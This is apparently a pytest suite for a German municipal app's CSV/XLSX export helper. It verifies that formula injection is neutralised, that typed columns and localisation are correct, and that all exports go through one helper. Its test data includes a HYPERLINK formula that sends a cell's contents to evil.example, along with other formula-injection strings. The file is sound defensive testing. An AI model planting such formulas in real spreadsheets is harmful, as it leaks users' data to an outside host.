"""Spreadsheet exports: no text cell becomes a formula, in CSV or XLSX, and every download uses one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from learning.exports import FORMULA_STARTS, Sheet, csv_bytes, download, neutralise, xlsx_bytes, xlsx_text

# Text a department, team, survey title or round label may hold (an admin or a CSV import can create it).
HOSTILE = ('=HYPERLINK("http://evil.example/?d="&D2,"Ordnung")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def read_export_csv(data: bytes) -> tuple[dict[str, str], list[list[str]]]:
    """An export as German Excel reads it: the info block (up to the empty line) and the table (header first)."""
    rows = read_csv(data, ";")
    blank = rows.index([])
    info = {row[0]: (row[1] if len(row) > 1 else "") for row in rows[:blank]}
    return info, rows[blank + 1:]


def assert_csv_safe(rows: list[list[str]]) -> None:
    """No cell starts a formula: text that would is prefixed with an apostrophe; numbers may be negative."""
    for row in rows:
        for value in row:
            assert NUMBER.fullmatch(value) or not value.startswith(FORMULA_STARTS), (value, row)


def read_xlsx(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))


def xlsx_cells(workbook) -> list:
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(workbook) -> None:
    """No cell is a formula; every text is a string cell."""
    for cell in xlsx_cells(workbook):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)


def assert_hostile_texts_inert(workbook, texts) -> None:
    """Each text is in the workbook as a string cell with exactly its text (no formula, nothing changed)."""
    cells = {}
    for cell in xlsx_cells(workbook):
        cells.setdefault(cell.value, cell)
    for text in map(xlsx_text, texts):  # "\r=1" is read back as "\n=1": XML keeps no lone CR
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Ordnungsamt", "Bürgerbüro = Standesamt", "a-b", "", " =1", 3, -1, -0.5, 0, None])
def test_other_values_stay_as_they_are(value):
    assert neutralise(value) == value


def test_csv_keeps_numbers_and_neutralises_text():
    rows = [["unit", "value"], *[[text, -1.5] for text in HOSTILE], ["Finanzen", -2], ["Bauen", None]]
    read = read_csv(csv_bytes(rows, delimiter=";"), ";")
    assert read[0] == ["unit", "value"]
    assert [row[0] for row in read[1:7]] == ["'" + text for text in HOSTILE]  # tab and CR survive quoted
    assert all(row[1] == "-1.5" for row in read[1:7])
    assert read[7:] == [["Finanzen", "-2"], ["Bauen", ""]]
    assert_csv_safe(read)


def test_csv_quotes_a_separator_so_no_formula_starts_inside_a_cell():
    read = read_csv(csv_bytes([['Amt;=1+1', 'x","=2']], delimiter=";"), ";")
    assert read == [['Amt;=1+1', 'x","=2']]


def test_xlsx_writes_text_as_string_cells_never_formulas():
    rows = [["unit", "value"], *[[text, -1] for text in HOSTILE], ["Finanzen", 0.25], ["Bauen", None]]
    workbook = read_xlsx(xlsx_bytes([Sheet("results", rows, widths=(30, 8)),
                                     Sheet("about", [["survey", HOSTILE[0]]], header=False)]))
    assert workbook.sheetnames == ["results", "about"]
    assert_xlsx_safe(workbook)
    assert_hostile_texts_inert(workbook, HOSTILE)
    sheet = workbook["results"]
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-1, "n")] * 6 + [(0.25, "n"), (None, "n")]
    assert sheet["A1"].font.b and not sheet["A2"].font.b and sheet.freeze_panes == "A2"
    assert workbook["about"]["B1"].value == HOSTILE[0] and workbook["about"].freeze_panes is None


def test_xlsx_drops_characters_xml_cannot_hold_instead_of_failing():
    workbook = read_xlsx(xlsx_bytes([Sheet("s", [["Amt\x01\x0b Ordnung", "a\r\nb\rc"]], header=False)]))
    assert [c.value for c in workbook.active[1]] == ["Amt Ordnung", "a\nb\nc"]


def test_download_names_the_type_and_the_file(app):
    with app.test_request_context():
        spreadsheet = download(b"x", "programme-2026-01-01.xlsx")
        text = download(b"x", "umfrage-1-ergebnisse.csv")
    assert spreadsheet.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert text.mimetype == "text/csv" and text.content_type == "text/csv; charset=utf-8"
    assert text.headers["Content-Disposition"] == 'attachment; filename="umfrage-1-ergebnisse.csv"'


def test_every_spreadsheet_download_goes_through_the_one_helper():
    """CSV and XLSX are written only in learning/exports.py, so no export can skip the neutralising."""
    root = Path(__file__).resolve().parent.parent / "learning"
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|spreadsheetml|mimetype=\"text/csv")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "exports.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []


# Exports for people: German Excel, typed columns, an info block ---------------------------------------------

def _export():
    from datetime import date, datetime

    from learning.exports import Column, Export, Typed

    return Export(
        title="Programm-Dashboard", name="Programm-Dashboard",
        columns=[Column("Bereich"), Column("Abgeschlossen (%)", "percent"), Column("Personen", "int"),
                 Column("Stichtag", "date"), Column("Gezeigt", "yesno"), Column("Wert", "decimal", 2)],
        rows=[["Bürgerbüro", 87.5, 12, date(2027, 3, 31), True, Typed(-0.25, "decimal", 2)],
              [HOSTILE[0], None, None, None, False, Typed("Fähigkeit", "text")],
              ["Team", None, None, None, None, Typed(HOSTILE[3], "text")]],  # typed text is text all the same
        filters=[("Rollout-Phase", "Phase 2: Go-live"), ("Bereich", "Ordnungsamt")],
        organisation="Stadt Musterstadt", as_of=date(2027, 3, 30), created=datetime(2027, 3, 31, 9, 15),
        notes=["Kleine Gruppen bleiben leer."])


def test_a_german_csv_export_reads_back_in_german_excel(app):
    from flask_babel import force_locale

    from learning.exports import export_csv, export_filename

    with app.test_request_context(), force_locale("de"):
        data = export_csv(_export())
        filename = export_filename(_export(), "csv")
    assert data.startswith("\ufeff".encode())
    info, rows = read_export_csv(data)
    assert info == {"Programm-Dashboard": "", "Organisation": "Stadt Musterstadt", "Rollout-Phase": "Phase 2: Go-live",
                    "Bereich": "Ordnungsamt", "Stand der Zahlen": "30.03.2027", "Erstellt am": "31.03.2027 09:15",
                    "Hinweis": "Kleine Gruppen bleiben leer."}
    assert rows[0] == ["Bereich", "Abgeschlossen (%)", "Personen", "Stichtag", "Gezeigt", "Wert"]
    assert rows[1] == ["Bürgerbüro", "87,5", "12", "31.03.2027", "Ja", "-0,25"]  # a negative number stays a number
    assert rows[2] == ["'" + HOSTILE[0], "", "", "", "Nein", "Fähigkeit"]
    assert rows[3] == ["Team", "", "", "", "", "'" + HOSTILE[3]]
    assert_csv_safe(rows)
    assert filename == "programm-dashboard_phase-2-go-live_ordnungsamt_2027-03-31.csv"


def test_an_english_csv_export_uses_the_decimal_point_and_iso_dates(app):
    from flask_babel import force_locale

    from learning.exports import export_csv

    with app.test_request_context(), force_locale("en"):
        info, rows = read_export_csv(export_csv(_export()))
    assert info["Figures as of"] == "2027-03-30" and rows[1][1:5] == ["87.5", "12", "2027-03-31", "Yes"]


def test_an_xlsx_export_has_types_formats_a_frozen_header_and_a_localised_info_sheet(app):
    from datetime import datetime

    from flask_babel import force_locale

    from learning.exports import export_xlsx

    with app.test_request_context(), force_locale("de"):
        workbook = read_xlsx(export_xlsx(_export()))
    assert workbook.sheetnames == ["Daten", "Informationen"]
    sheet = workbook["Daten"]
    assert sheet.freeze_panes == "A2" and all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["A"].width >= len(HOSTILE[0]) and sheet.column_dimensions["B"].width >= 17
    first = sheet[2]
    assert (first[1].value, first[1].number_format) == (87.5, '0.0" %"')
    assert (first[2].value, first[2].number_format) == (12, "0")
    assert first[3].value == datetime(2027, 3, 31) and first[3].number_format == "DD.MM.YYYY"
    assert first[4].value == "Ja" and sheet[3][4].value == "Nein"
    assert (first[5].value, first[5].number_format) == (-0.25, "0.00")
    assert_xlsx_safe(workbook)
    assert_hostile_texts_inert(workbook, [HOSTILE[0], HOSTILE[3]])
    info = {row[0].value: row[1] for row in workbook["Informationen"].iter_rows() if len(row) > 1}
    assert info["Stand der Zahlen"].value == datetime(2027, 3, 30) and info["Stand der Zahlen"].is_date
    assert info["Erstellt am"].number_format == "DD.MM.YYYY HH:MM" and info["Organisation"].value == "Stadt Musterstadt"
